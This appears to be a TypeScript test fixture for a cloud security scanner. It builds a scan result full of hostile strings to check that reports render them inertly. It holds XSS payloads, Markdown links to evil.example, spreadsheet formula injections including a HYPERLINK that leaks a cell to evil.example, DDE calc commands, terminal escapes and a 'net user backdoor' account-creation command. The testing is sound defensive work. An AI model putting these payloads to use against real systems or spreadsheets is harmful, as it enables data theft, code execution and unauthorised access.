/**
 * A scan result whose every attacker-controlled string is hostile: HTML/script injection, a
 * Markdown link, mention, issue reference and raw HTML, spreadsheet formulas, terminal escape
 * codes, pipes and line breaks that would break a table. The reports written for people must
 * show all of it as inert text. `window.__xss` is what an injected script would set.
 */

import type { ScanResult } from "../../src/model/finding.js";
import { ESC, randomToken } from "./fixtures.js";

export const XSS_SUB = "00000000-0000-0000-0000-00000000abcd";
/** Every payload sets window.__xss (or calls alert) if it ever runs. */
export const XSS_NAME = `vm"><img src=x onerror="window.__xss=1;alert(1)"><script>window.__xss=2</script>`;
export const XSS_SCRIPT = `#!/bin/bash\n</pre></details><script>window.__xss=3</script>\n\`\`\`\n# not a heading\n@admin please run [this](https://evil.example/a) <b>now</b>\n${ESC}[31mred${ESC}[0m`;
export const MD_TITLE = `Run [click me](https://evil.example/x) @octocat #1 www.evil.example <b>bold</b> **x** | pipe\nsecond line <!-- c -->`;
export const FORMULA_PRINCIPAL = `=HYPERLINK("https://evil.example/?leak="&A1,"click")`;
export const INJECTED_ID = "injected-by-the-data";

export function makeHostileResult(): { result: ScanResult; password: string } {
  const password = `P${randomToken(12)}!`;
  const vm = `/subscriptions/${XSS_SUB}/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/${XSS_NAME}`;
  const result: ScanResult = {
    id: `scan-<i id="${INJECTED_ID}">x</i>`,
    startedAt: "2024-05-01T12:00:00Z",
    finishedAt: "2024-05-01T12:00:10Z",
    complete: false,
    coverage: [
      {
        source: "activity-log",
        scope: `/subscriptions/${XSS_SUB}`,
        status: "failed",
        records: 0,
        reason: `403 <script>window.__xss=6</script> see [docs](https://evil.example/d) @admin`,
      },
    ],
    rules: [],
    diagnostics: [],
    findings: [
      {
        id: "f-xss-resource",
        ruleId: "user-rule-1",
        title: MD_TITLE,
        severity: "critical",
        attack: { tactics: ["execution"], techniques: ["T1651", `<svg onload="window.__xss=4">`] },
        subscriptionId: XSS_SUB,
        resourceId: vm,
        principal: {
          id: "11111111-1111-1111-1111-111111111111",
          name: `<img src=x onerror="window.__xss=5">@mallory`,
          type: "User",
        },
        time: "2024-05-01T10:00:00Z",
        operation: "\tMicrosoft.Compute/virtualMachines/runCommand/action",
        status: "new",
        evidence: {
          kind: "payload",
          records: [{ kind: "resource", id: vm }],
          vector: "Run Command (managed)",
          payloads: [
            {
              kind: "script",
              path: "properties.source.script",
              content: `${XSS_SCRIPT}\nnet user backdoor ${password} /add`,
              truncated: false,
              vector: "Run Command (managed)",
            },
          ],
        },
      },
      {
        id: "f-formula",
        ruleId: "user-rule-2",
        title: "+cmd|' /C calc'!A0",
        severity: "high",
        attack: { tactics: ["execution"], techniques: ["T1059.009"] },
        subscriptionId: XSS_SUB,
        resourceId: `/subscriptions/${XSS_SUB}/resourceGroups/rg/providers/Microsoft.Web/sites/-2+3`,
        principal: { name: FORMULA_PRINCIPAL },
        time: "2024-05-01T10:05:00Z",
        status: "suppressed",
        suppression: { reason: "accepted <b>risk</b> @boss", expires: "2030-01-01", entry: "s.yaml:3" },
        evidence: {
          kind: "activity",
          records: [{ kind: "activity", id: "evt-1" }],
          operationName: "Microsoft.Web/sites/write",
          occurrences: 1,
          outcome: "succeeded",
          matched: { caller: "@SUM(1+1)*cmd|' /C calc'!A0", note: `${ESC}]0;pwned\u0007title` },
        },
      },
      {
        id: "f-chain",
        ruleId: "user-rule-3",
        title: "Chain <script>window.__xss=7</script>",
        severity: "high",
        attack: { tactics: ["execution"], techniques: ["T1651", "T9999"] },
        subscriptionId: XSS_SUB,
        resourceId: vm,
        principal: { id: "22222222-2222-2222-2222-222222222222" },
        time: "2024-05-01T10:10:00Z",
        evidence: {
          kind: "chain",
          records: [],
          correlation: { type: "temporal_ordered", timespanMs: 3600000, group: {} },
          steps: [
            {
              rule: `<img src=x onerror="window.__xss=8">`,
              ruleId: "x",
              time: "2024-05-01T10:10:00Z",
              operation: "op|with|pipes",
              resourceId: vm,
              principal: "@octocat",
              records: [],
            },
          ],
        },
      },
    ],
  };
  return { result, password };
}
